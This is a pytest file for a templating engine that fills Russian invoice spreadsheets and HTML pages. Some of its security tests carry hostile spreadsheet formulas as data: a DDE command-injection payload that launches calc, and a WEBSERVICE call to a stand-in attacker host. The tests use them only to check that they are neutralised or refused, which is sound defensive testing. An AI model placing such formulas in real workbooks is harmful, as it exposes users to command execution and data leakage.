"""Workbooks and pages of HTML filled in."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from core.templates.rules.markup import fill_html
from core.templates.rules.papers import book_paper, page_paper
from core.templates.rules.values import Sort, TemplateError, Told
from core.templates.rules.xlsx import fill_xlsx
from core.templates.work import page

from .samples import pdf_words, scope

pytestmark = pytest.mark.row("D-10")


def book(*rows: tuple, **more) -> bytes:
    made = Workbook()
    for row in rows:
        made.active.append(row)
    for place, text in more.items():
        made.active[place] = text
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def cells(content: bytes) -> list[tuple]:
    return [row for row in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True) if any(row)]


INVOICE = (
    ("Счёт для {{ контрагент }}", None, None, None),
    ("№", "Товар", "Кол-во", "Сумма"),
    ("{{ строки.№ }}", "{{ строки.товар }}", "{{ строки.кол }}", "{{ строки.цена }}"),
    ("", "Итого", None, "=SUM(D3:D3)"),
    ("", "НДС", None, "=D4*0.2"),
)


def test_rows_repeat_and_formulas_follow_them():
    told = cells(fill_xlsx(book(*INVOICE), scope()))
    assert told[0][0] == "Счёт для ООО «Ромашка»"
    assert told[2] == (1, "Насос К-80", 2, Decimal("1500.50")) or told[2] == (1, "Насос К-80", 2, 1500.5)
    assert told[3][1] == "Клапан"
    assert told[4][3] == "=SUM(D3:D4)"
    assert told[5][3] == "=D5*0.2"


def test_a_formula_of_a_repeated_row_is_its_own():
    told = cells(fill_xlsx(book(("{{ строки.кол }}", "{{ строки.цена }}", "=A1*B1")), scope()))
    assert [row[2] for row in told] == ["=A1*B1", "=A2*B2"]


def test_numbers_and_days_are_such_and_words_never_become_formulas():
    hostile = scope(контрагент=Told(Sort.TEXT, "=cmd|'/C calc'!A0"))
    content = fill_xlsx(book(("{{ сумма }}", "{{ день }}", "{{ контрагент }}", "{{ сумма | прописью }}")), hostile)
    row = next(load_workbook(io.BytesIO(content)).active.iter_rows())
    assert row[0].data_type == "n" and row[0].value == 123000
    assert row[1].is_date and row[2].data_type == "s"
    assert row[3].value.startswith("Сто двадцать три")


def test_rows_between_marks_are_kept_or_left_out():
    rows = (("{{ если срочно }}",), ("срочно",), ("{{ иначе }}",), ("нет",), ("{{ конец }}",), ("{{ для строки }}",),
            ("{{ строки.товар }}",), ("цена {{ строки.цена }}",), ("{{ конец }}",))  # fmt: skip
    told = [row[0] for row in cells(fill_xlsx(book(*rows), scope()))]
    assert told == ["срочно", "Насос К-80", "цена 1\u00a0500,50", "Клапан", "цена 99,90"]
    with pytest.raises(TemplateError, match="не закрыто"):
        fill_xlsx(book(("{{ если срочно }}",), ("х",)), scope())


def test_joined_cells_and_heights_go_with_their_rows():
    made = load_workbook(io.BytesIO(book(*INVOICE)))
    made.active.merge_cells("B4:C4")
    made.active.merge_cells("B3:C3")
    made.active.row_dimensions[4].height = 33
    file = io.BytesIO()
    made.save(file)
    sheet = load_workbook(io.BytesIO(fill_xlsx(file.getvalue(), scope()))).active
    assert {str(one) for one in sheet.merged_cells.ranges} == {"B3:C3", "B4:C4", "B5:C5"}
    assert sheet.row_dimensions[5].height == 33


@pytest.mark.parametrize("formula", ['=WEBSERVICE("https://evil.example")', "=cmd|'/C calc'!A0"])
def test_formulas_that_ask_outside_are_refused(formula):
    with pytest.raises(TemplateError, match="обращается наружу"):
        fill_xlsx(book(A1=formula), scope())


def test_a_table_far_beyond_its_edge_is_refused():
    with pytest.raises(TemplateError, match="ячеек"):
        fill_xlsx(book(XFD1000="х"), scope())


def test_a_workbook_and_a_page_are_laid_out():
    told = pdf_words(page(book_paper(fill_xlsx(book(*INVOICE[:3]), scope())), made_at=0))
    assert "Счёт для ООО «Ромашка»" in told and "Насос К-80" in told
    html = "<h1>Счёт {{ контрагент }}</h1><ul><li>{{ строки.товар }}</li></ul>"
    html += "<p>{{ если срочно }}</p><p><b>Срочно</b></p><p>{{ конец }}</p>"
    filled = fill_html(html.encode(), scope())
    assert pdf_words(page(page_paper(filled), made_at=0)) == "Счёт ООО «Ромашка» • Насос К-80 • Клапан Срочно"


def test_rows_of_a_page_repeat_and_marks_within_marks_of_html_are_found():
    html = "<table><tr><th>Товар</th></tr><tr><td>{{ <b>строки</b>.товар }}</td></tr></table>"
    html += "<div>{{ сумма }} <i>руб</i></div>"
    told = fill_html(html.encode(), scope()).decode()
    assert told.count("<tr>") == 3 and "Насос К-80" in told and "123&nbsp;000,00" in told.replace("\u00a0", "&nbsp;")
